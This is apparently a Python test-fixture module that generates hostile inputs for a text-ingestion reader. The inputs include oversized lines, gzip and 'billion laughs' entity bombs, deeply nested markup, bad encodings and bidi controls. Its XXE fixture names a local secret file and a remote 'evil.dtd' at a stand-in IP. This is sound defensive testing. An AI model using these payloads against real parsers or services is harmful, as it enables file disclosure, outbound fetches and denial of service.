"""Hostile inputs, generated at test time (never committed: one of them is 100 MB).

    inputs = generate(tmp_path)          # list[Nasty], files written under tmp_path
    for nasty in inputs: ...              # nasty.path, nasty.expect, nasty.articles, nasty.error

Each input says what a correct reader does with it: `articles` is the number of articles
it must yield, `error` a regex one of its failures must match (None: no failure allowed),
and `contains` words the articles' text must keep.
"""

from __future__ import annotations

import gzip
import io
import json
import os
from dataclasses import dataclass, field
from pathlib import Path

# One article's worth of plain English, so a correct result can also be extracted.
BODY = ("The foreign minister of Norway met her counterpart from Chile in Oslo on Monday. "
        "Both said the fisheries agreement would be signed next month.")
HUGE_BYTES = 100 * 1024 * 1024
NESTED_TAGS = 100_000
BROKEN_EVERY = 10


@dataclass(frozen=True)
class Nasty:
    """One hostile input and what a correct reader makes of it."""

    name: str
    path: Path
    articles: int  # articles it must yield
    error: str | None = None  # regex a failure's reason must match; None: no failures
    contains: tuple[str, ...] = ()  # words every yielded article keeps
    failures: int | None = None  # exact number of failures, when known
    notes: str = ""
    extra: dict = field(default_factory=dict)


def generate(folder: Path, *, huge: bool = True) -> list[Nasty]:
    """Write every hostile input into `folder`; `huge=False` leaves out the 100 MB ones."""
    folder.mkdir(parents=True, exist_ok=True)
    makers = [nul_bytes, nul_escaped_jsonl, nested_html, deep_json, truncated_warc, gzip_bomb, boms,
              mixed_encodings, wrong_charset_html, rtl_overrides, broken_jsonl, entity_bomb_feed,
              external_entity_feed]
    if huge:
        makers.insert(0, huge_line)
    found: list[Nasty] = []
    for make in makers:
        found += make(folder)
    return found


def huge_line(folder: Path) -> list[Nasty]:
    """A 100 MB single line between two good ones, written in 1 MiB chunks: as JSON Lines
    (streamed: the long line fails alone, its neighbours are read) and, hard-linked, as
    plain text (refused by its size before a byte is read)."""
    path = folder / "huge-line.jsonl"
    chunk = b"war " * (256 * 1024)
    with path.open("wb") as fh:
        fh.write(json.dumps({"text": BODY + " First."}).encode() + b"\n")
        fh.write(b'{"text": "')
        for _ in range(HUGE_BYTES // len(chunk)):
            fh.write(chunk)
        fh.write(b'"}\n')
        fh.write(json.dumps({"text": BODY + " Last."}).encode() + b"\n")
    text = folder / "huge-line.txt"
    try:
        os.link(path, text)
    except OSError:
        text.write_bytes(path.read_bytes())
    return [Nasty("huge-line.jsonl", path, 2, r"line is over max_file_bytes", failures=1, contains=("Norway",)),
            Nasty("huge-line.txt", text, 0, r"file is too big", failures=1)]


def nul_bytes(folder: Path) -> list[Nasty]:
    path = folder / "nul.txt"
    path.write_bytes(BODY.encode()[:40] + b"\x00\x00\x00" + BODY.encode()[40:])
    return [Nasty("nul.txt", path, 0, r"binary file \(NUL bytes", failures=1)]


def nul_escaped_jsonl(folder: Path) -> list[Nasty]:
    """NUL and other control characters as JSON escapes: valid JSON, hostile text."""
    path = folder / "nul-escaped.jsonl"
    path.write_text(json.dumps({"text": BODY.replace("Oslo", "Os\u0000lo\u0007\u001b[31m"),
                                "title": "NUL\u0000title"}) + "\n", encoding="utf-8")
    return [Nasty("nul-escaped.jsonl", path, 1, None, contains=("Norway", "Chile"))]


def nested_html(folder: Path) -> list[Nasty]:
    path = folder / "nested.html"
    with path.open("w", encoding="utf-8") as fh:
        fh.write("<html><head><title>Nested</title></head><body>")
        fh.write("<div>" * NESTED_TAGS)
        fh.write(f"<p>{BODY}</p>")
        fh.write("</div>" * NESTED_TAGS)
        fh.write("</body></html>")
    # lxml caps tree depth (libxml2's 256-level limit without HUGE_TREE): either the text
    # is found or the page gets a clear "no article text" failure
    return [Nasty("nested.html", path, -1, r"(no article text|text|HTML)", extra={"either": True})]


def deep_json(folder: Path) -> list[Nasty]:
    path = folder / "deep.json"
    path.write_text("[" * NESTED_TAGS + "]" * NESTED_TAGS, encoding="utf-8")
    return [Nasty("deep.json", path, 0, r".", failures=1)]


def truncated_warc(folder: Path) -> list[Nasty]:
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    buffer = io.BytesIO()
    writer = WARCWriter(buffer, gzip=False)
    for i, city in enumerate(("Oslo", "Lima")):
        html = (f"<html><head><title>Talks in {city}</title></head><body><article><p>{BODY.replace('Oslo', city)}"
                f" Officials added details on day {i}.</p></article></body></html>").encode()
        headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1")
        writer.write_record(writer.create_warc_record(f"https://news.example/{city.lower()}", "response",
                                                      payload=io.BytesIO(html), http_headers=headers))
    data = buffer.getvalue()
    path = folder / "truncated.warc"
    path.write_bytes(data[: len(data) - 120])  # cut inside the second record's payload
    return [Nasty("truncated.warc", path, 1, r"truncated or corrupt|cut short", failures=1, contains=("Oslo",))]


def gzip_bomb(folder: Path) -> list[Nasty]:
    """200 MB of one repeated word that compresses to about 200 KB, streamed in."""
    path = folder / "bomb.txt.gz"
    zeros = b"war " * (256 * 1024)  # text, not NUL bytes: the binary check must not catch it first
    with gzip.open(path, "wb", compresslevel=9) as fh:
        for _ in range(200):
            fh.write(zeros)
    return [Nasty("bomb.txt.gz", path, 0, r"gzip bomb|decompresses to more than|too big", failures=1)]


def boms(folder: Path) -> list[Nasty]:
    found = []
    for codec, bom in (("utf-8", b"\xef\xbb\xbf"), ("utf-16-le", b"\xff\xfe"), ("utf-16-be", b"\xfe\xff"),
                       ("utf-32-le", b"\xff\xfe\x00\x00")):
        path = folder / f"bom-{codec}.txt"
        path.write_bytes(bom + BODY.replace("Oslo", "Tromsø").encode(codec))
        found.append(Nasty(path.name, path, 1, None, contains=("Tromsø", "Chile")))
    jsonl = folder / "bom.jsonl"
    jsonl.write_bytes(b"\xef\xbb\xbf" + json.dumps({"text": BODY}).encode() + b"\n")
    found.append(Nasty(jsonl.name, jsonl, 1, None, contains=("Norway",)))
    return found


def mixed_encodings(folder: Path) -> list[Nasty]:
    """UTF-8 text with a Latin-1 paragraph pasted in: refused with the offending byte named."""
    path = folder / "mixed.txt"
    path.write_bytes(BODY.encode("utf-8") + " Café in Bogotá.".encode("latin-1") + " Zürich ✓".encode("utf-8"))
    # and as JSON Lines: only the bad line fails, the good one is read
    jsonl = folder / "mixed.jsonl"
    jsonl.write_bytes(json.dumps({"text": BODY}, ensure_ascii=False).encode() + b"\n"
                      + json.dumps({"text": BODY + " Café"}, ensure_ascii=False).encode("latin-1") + b"\n")
    return [Nasty("mixed.txt", path, 0, r"not valid UTF-8 \(byte 0x[0-9A-F]{2} at offset \d+", failures=1),
            Nasty("mixed.jsonl", jsonl, 1, r"not valid UTF-8", failures=1, contains=("Norway",))]


def wrong_charset_html(folder: Path) -> list[Nasty]:
    """A page declaring windows-1252 that holds UTF-8: decoded as declared (mojibake, not a crash)."""
    path = folder / "charset.html"
    path.write_bytes(("<html><head><meta charset='windows-1252'><title>Charset</title></head><body><article><p>"
                      + BODY + " Zürich.</p></article></body></html>").encode("utf-8"))
    return [Nasty("charset.html", path, 1, None, contains=("Norway",))]


def rtl_overrides(folder: Path) -> list[Nasty]:
    """Bidi controls that make text display reversed (the `Trojan Source` trick), kept as text."""
    path = folder / "rtl.txt"
    path.write_text("\u202eNorway\u202c " + BODY + " \u2066\u2067hidden\u2069 \u200f", encoding="utf-8")
    return [Nasty("rtl.txt", path, 1, None, contains=("Chile",))]


def broken_jsonl(folder: Path, lines: int = 50) -> list[Nasty]:
    """Every tenth line is broken JSON; the other lines are stored."""
    path = folder / "broken.jsonl"
    with path.open("w", encoding="utf-8") as fh:
        for i in range(1, lines + 1):
            if i % BROKEN_EVERY == 0:
                fh.write('{"text": "cut off in the mid\n')
            else:
                fh.write(json.dumps({"text": f"{BODY} Report number {i}.", "url": f"https://x.example/{i}"}) + "\n")
    bad = lines // BROKEN_EVERY
    return [Nasty("broken.jsonl", path, lines - bad, r"not valid JSON", failures=bad)]


def entity_bomb_feed(folder: Path) -> list[Nasty]:
    """`billion laughs`: nested internal entities that would expand to gigabytes."""
    path = folder / "laughs.rss"
    entities = "".join(f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10}">' for i in range(1, 10))
    path.write_text(f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "lol">{entities}]>'
                    '<rss version="2.0"><channel><title>Laughs</title><item><title>&l9;</title>'
                    f"<description>{BODY}</description></item></channel></rss>", encoding="utf-8")
    return [Nasty("laughs.rss", path, -1, r".", extra={"either": True, "max_text": 1_000_000})]


def external_entity_feed(folder: Path) -> list[Nasty]:
    """XXE: entities naming a local file and a remote URL; neither may be read or fetched."""
    secret = folder / ".secret.txt"  # hidden: a folder ingest skips it
    secret.write_text("TOP-SECRET-CONTENT", encoding="utf-8")
    path = folder / "xxe.rss"
    path.write_text(f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY file SYSTEM "file://{secret}">'
                    '<!ENTITY remote SYSTEM "http://203.0.113.9/evil.dtd">]>'
                    '<rss version="2.0"><channel><title>X</title><item><title>&file;</title>'
                    f"<description>{BODY} &remote;</description></item></channel></rss>", encoding="utf-8")
    return [Nasty("xxe.rss", path, -1, r".", extra={"either": True, "forbidden": "TOP-SECRET"})]
